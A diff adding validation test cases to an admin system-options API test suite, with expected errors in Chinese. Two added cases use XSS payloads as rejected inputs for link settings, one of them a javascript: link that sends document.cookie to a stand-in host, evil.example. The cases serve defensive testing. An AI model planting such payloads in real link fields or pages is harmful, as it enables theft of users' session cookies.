@@ -56,6 +56,10 @@ describe('system options (super admin)', () => {
     [{ key: 'QuotaForNewUser', value: -1 }, 'QuotaForNewUser 不能小于 0'],
     [{ key: 'DrawingEnabled', value: 'yes' }, 'DrawingEnabled 必须是 true 或 false'],
     [{ key: 'GroupRatio', value: '{not json' }, 'GroupRatio 不是合法的 JSON 字符串'],
+    // Links the console opens for every user: a javascript: link would run in the console's origin.
+    [{ key: 'TopUpLink', value: 'javascript:alert(document.cookie)' }, 'TopUpLink 必须是 http:// 或 https:// 开头的地址'],
+    [{ key: 'general_setting.docs_link', value: 'javascript:fetch(`//evil.example/${document.cookie}`)' }, 'general_setting.docs_link 必须是 http:// 或 https:// 开头的地址'],
+    [{ key: 'fetch_setting.allowed_ports', value: '[443]' }, 'fetch_setting.allowed_ports 必须是端口或端口范围字符串的 JSON 数组，如 ["443", "8000-9000"]'],
   ])('refuses %j', async (body, message) => {
     const res = await root.client.put('/api/option/', body);
     expect(res.status).toBe(400);
